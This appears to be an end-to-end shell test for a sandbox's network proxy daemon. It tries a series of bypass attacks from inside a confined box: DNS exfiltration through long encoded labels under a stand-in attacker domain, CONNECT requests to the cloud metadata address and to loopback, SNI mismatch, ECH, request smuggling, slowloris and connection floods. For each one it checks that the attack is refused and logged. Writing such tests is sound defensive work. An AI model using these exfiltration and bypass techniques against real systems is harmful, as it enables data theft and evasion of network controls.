#!/bin/bash
# `network = proxy` under attack: every way around the
# proxy a box might try must fail, and be on the record where the proxy or the kernel
# sees it.  One row per attack; the ones nothing can record say so (and why) in their
# name.  Harness: tests/e2e/lib-netd.sh; only this test's namespaces are ever dialled.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/lib-e2e.sh"
. "$(dirname "$0")/lib-netd.sh"
e2e_enter_private_world "$@"
# A service on "the host's" 127.0.0.1 (the daemon's side) and on the real loopback of
# this world, which the box must reach neither directly nor through the proxy.
NETD_LOOP_PORT=$(( 20000 + $$ % 20000 ))
netd_setup
LOOPLOG=$NETD_DIR/loop.log
: > "$LOOPLOG"
cat > "$NETD_DIR/listen.py" <<'PY'
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(16)
while True:
    c, a = s.accept()
    with open(sys.argv[2], "a") as f:
        f.write("accepted on %s\n" % sys.argv[3])
    c.close()
PY
nsenter --net="/run/netns/$NETD_NS" -- "$NETD_PY" "$NETD_DIR/listen.py" "$NETD_LOOP_PORT" "$LOOPLOG" daemon-side &
defer "kill $!"
"$NETD_PY" "$NETD_DIR/listen.py" "$NETD_LOOP_PORT" "$LOOPLOG" world &
defer "kill $!"
sleep 0.3

U=abt_na1
PROJ=/home/abt_na1-proj
NETD_CRED=0 netd_enroll "$U" "$PROJ" || e2e_die "enroll $U with network = proxy"
cp "$NETD_FIX/probe.py" "$PROJ/probe.py" && chmod 0755 "$PROJ/probe.py"
box() { netd_box "$U" "cd $PROJ && $1"; }
probe() { box "./probe.py $*"; }
upstream_lines() { wc -l < "$NETD_LOG"; }
e2e_audit_since

## Around the proxy: the box's namespace has only lo (the kernel refuses; nothing to record)
m=$(upstream_lines)
out=$(box "curl -sS --noproxy '*' --max-time 10 --cacert test-ca.crt https://api.example.test/echo 2>&1; echo rc=\$?")
like "$out" "rc=7" "curl --noproxy '*' cannot connect (not recordable: ENETUNREACH in a lo-only netns)"
is "$(probe tcp "$NETD_UP4" 443)" "tcp ENETUNREACH" "raw TCP connect to the upstream's IP: ENETUNREACH (not recordable: no route, no decision)"
is "$(probe tcp "$NETD_UP6" 443)" "tcp ENETUNREACH" "raw TCP connect to the upstream's IPv6: ENETUNREACH (not recordable)"
is "$(probe udp "$NETD_UP4" 53)" "udp ENETUNREACH" "UDP DNS to the upstream's resolver: ENETUNREACH (not recordable)"
is "$(probe udp "$NETD_UP4" 443)" "udp ENETUNREACH" "QUIC (UDP 443) to the upstream: ENETUNREACH (not recordable)"
is "$(tail -n +$((m + 1)) "$NETD_LOG" | grep -c '"peer"')" 0 "the upstream saw none of these packets"

## DNS exfiltration: long names are REFUSED, recorded, and never looked up on the host
label=$(printf 'c2VjcmV0%.0s' $(seq 1 7))	# 56 bytes of "data" per label
exfil="$label.$label.$label.exfil.attacker.example.org"
m=$(upstream_lines)
is "$(probe dns "$exfil")" "dns REFUSED " "DNS exfiltration name (UDP): REFUSED"
is "$(probe dns "t2.$exfil" tcp)" "dns REFUSED " "DNS exfiltration name (TCP): REFUSED"
is "$(box "getent hosts t3.$exfil; echo rc=\$?")" "rc=2" "getent of the exfiltration name fails"
netd_rec "proto=dns .*event=deny .*host=\"[^\"]*exfil.attacker.example.org\".*decision=denied .*reason=\"?no-rule" >/dev/null &&
    ok "record: DNS refusal of the exfiltration name" || not_ok "no DNS deny record"
sleep 1
is "$(tail -n +$((m + 1)) "$NETD_LOG" | grep -c 'exfil')" 0 "no lookup of a denied name reached the host's resolver"
# The control: an allowed name that only DNS knows is looked up there, so the log above
# would have shown a lookup of the denied names.
probe dns dnsprobe.example.test >/dev/null
sleep 0.5
netd_upstream_saw '"kind": "dns", "name": "dnsprobe.example.test"' &&
    ok "control: an allowed name outside /etc/hosts reaches the upstream's DNS log" ||
    not_ok "control: the upstream's DNS log saw no lookup of an allowed name"
is "$(probe dns blocked.example.test)" "dns REFUSED " "deny_host name: REFUSED by the box's DNS"

## CONNECT to addresses the policy does not name, or that the address check refuses
is "$(probe connect "$NETD_UP4:443")" "status 403" "CONNECT to an IP literal: 403"
netd_rec "proto=connect .*event=deny .*host=\"?$NETD_UP4\"? port=443 .*reason=\"?no-rule" >/dev/null &&
    ok "record: CONNECT to an IP literal denied (no-rule)" || not_ok "no record of the IP-literal CONNECT"
is "$(probe connect "169.254.169.254:80")" "status 403" "CONNECT to the metadata address: 403"
# An allowed name: the daemon answers 200 (agentbox-netd(8): the ClientHello is checked
# first), then resolves and refuses the address: the tunnel is cut, nothing dialled.
like "$(probe connect metadata.example.test:80 metadata.example.test test-ca.crt)" "tls-cut" \
    "CONNECT to an allowed name that resolves to the metadata address: cut"
netd_rec "proto=connect .*event=deny .*host=\"metadata.example.test\" port=80 .*reason=\"?metadata" >/dev/null &&
    ok "record: metadata address refused after resolution" || not_ok "no metadata record"
like "$(probe connect "loop.example.test:$NETD_LOOP_PORT" loop.example.test test-ca.crt)" "tls-cut" \
    "CONNECT to an allowed name that resolves to the host's 127.0.0.1: cut"
netd_rec "proto=connect .*event=deny .*host=\"loop.example.test\" .*reason=\"?loopback" >/dev/null &&
    ok "record: loopback refused" || not_ok "no loopback record"
is "$(probe connect "127.0.0.1:$NETD_LOOP_PORT")" "status 403" "CONNECT to 127.0.0.1 literal: 403"
like "$(probe connect self.example.test:443 self.example.test test-ca.crt)" "tls-cut" \
    "CONNECT to an allowed name that resolves to the host's own address: cut"
netd_rec "proto=connect .*event=deny .*host=\"self.example.test\" .*reason=\"?(host-address|private-address)" >/dev/null &&
    ok "record: the host's own address refused" || not_ok "no host-address record"
is "$(probe tcp 127.0.0.1 "$NETD_LOOP_PORT")" "tcp ECONNREFUSED" "direct connect to 127.0.0.1:PORT reaches only the box's own lo (not recordable: nothing listens there)"
sleep 0.5
is "$(cat "$LOOPLOG")" "" "neither host-side 127.0.0.1 service accepted a connection"
is "$(probe connect "blocked.example.test:443")" "status 403" "CONNECT to a deny_host name: 403"
netd_rec "proto=connect .*event=deny .*host=\"blocked.example.test\" .*rule=\"?[^ ]*blocked.example.test.* reason=\"?deny-rule" >/dev/null &&
    ok "record: deny_host with its rule" || not_ok "no deny-rule record"

## SNI/Host mismatch, ECH
m=$(upstream_lines)
out=$(probe connect api.example.test:443 registry.example.test test-ca.crt)
like "$out" "tls-cut" "CONNECT api.example.test then SNI registry.example.test: cut ($out)"
netd_rec "proto=connect .*host=\"api.example.test\" .*reason=\"?sni-mismatch" >/dev/null &&
    ok "record: sni-mismatch" || not_ok "no sni-mismatch record"
is "$(tail -n +$((m + 1)) "$NETD_LOG" | grep -c '"sni": "registry.example.test"')" 0 \
    "the mismatched ClientHello never reached the upstream"
like "$(probe connect api.example.test:443 api.example.test test-ca.crt)" "tls-ok HTTP/1.1 200" \
    "the same CONNECT with the right SNI works"
m=$(upstream_lines)
out=$(probe ech api.example.test)
like "$out" "ech-cut" "a ClientHello with encrypted_client_hello: cut ($out)"
netd_rec "proto=connect .*host=\"api.example.test\" .*reason=\"?ech" >/dev/null &&
    ok "record: ech" || not_ok "no ech record"
is "$(tail -n +$((m + 1)) "$NETD_LOG" | grep -c '"peer"')" 0 "the ECH hello never reached the upstream"

## Request smuggling (CL + TE) in absolute-form plain HTTP
m=$(upstream_lines)
out=$(probe smuggle api.example.test)
like "$out" "smuggle HTTP/1.1 400" "Content-Length with Transfer-Encoding: 400"
netd_rec "proto=http .*event=deny host=\"api.example.test\" port=80 .*reason=\"?bad-request" >/dev/null &&
    ok "record: bad-request, naming the request line's host" ||
    not_ok "no bad-request record for CL+TE naming api.example.test"
sleep 0.5
is "$(tail -n +$((m + 1)) "$NETD_LOG" | grep -c 'smuggled\|"path": "/echo"')" 0 "nothing of the smuggling request reached the upstream"

## Slowloris: the request head has 10 s
out=$(probe slowloris api.example.test)
case "$out" in
"cut-after "[0-9]*|"answer-after "*408*)
	t=${out#*after }; t=${t%%[ .]*}
	if [ "$t" -ge 9 ] && [ "$t" -le 12 ]; then ok "slowloris cut at the head deadline ($out)"
	else not_ok "slowloris cut, but not at 10 s ($out)"; fi ;;
*) not_ok "slowloris: $out" ;;
esac
# One byte a second: at the 10 s deadline the request line is still unfinished, so the
# record cannot trust a host yet (netd_daemon.t's slow head, a whole request line, is
# recorded with its host).
netd_rec "proto=connect .*event=deny host=\"[?]\" port=0 .*reason=\"?timeout" >/dev/null &&
    ok "record: timeout (request line unfinished: host ?)" || not_ok "no timeout record"

## Denial storm: folded into counts, the first at once
e2e_audit_since
out=$(probe flood 60 50 0 blocked.example.test)
is "$out" 'flood {"403": 60}' "60 denied CONNECTs in 1.2 s: each one 403"
sleep 2
nrec=$(netd_rec "proto=connect .*event=deny .*host=\"blocked.example.test\"" | grep -c 'op=agentbox-net')
if [ "$nrec" -ge 1 ] && [ "$nrec" -le 6 ]; then ok "the storm made $nrec records, not 60"; else not_ok "storm records: $nrec"; fi
netd_rec "proto=connect .*event=deny .*host=\"blocked.example.test\".*count=([2-9]|[1-9][0-9]+)" >/dev/null &&
    ok "record: the repeats folded with count=N" || not_ok "no folded record with count"

## Tunnel flood: 256 concurrent tunnels, 64 new connections a second
out=$(box './probe.py flood 300 40 1 api.example.test')
c200=$(sed -n 's/.*"200": \([0-9]*\).*/\1/p' <<< "$out")
if [ -n "$c200" ] && [ "$c200" -le 256 ] && [ "$c200" -ge 250 ]; then
	ok "tunnel flood: $c200 of 300 held, the rest refused ($out)"
else
	not_ok "tunnel flood: $out"
fi
netd_rec "proto=connect .*reason=\"?limit" >/dev/null && ok "record: limit" || not_ok "no limit record"
out=$(box './probe.py flood 200 1000 0 api.example.test')
c200=$(sed -n 's/.*"200": \([0-9]*\).*/\1/p' <<< "$out")
if [ -n "$c200" ] && [ "$c200" -lt 200 ]; then ok "connection burst: the rate bound refused some ($out)"
else not_ok "connection burst: nothing refused ($out)"; fi
# Another session still gets through during a flood.
# su itself in the background (not a shell function: $! would be a subshell, and the
# defer would kill that, not the session).
su "$U" -c "cd $PROJ && ./probe.py flood 256 50 15 api.example.test" >/dev/null &
flood=$!
defer "kill $flood"
sleep 7
like "$(box "curl -sS --max-time 10 --cacert test-ca.crt https://api.example.test/echo")" '"host"' \
    "another session of the same user works while one floods"
wait "$flood"

e2e_wait_uid_gone "$(id -u "$U")" 10 || not_ok "session processes of $U still running"
finish
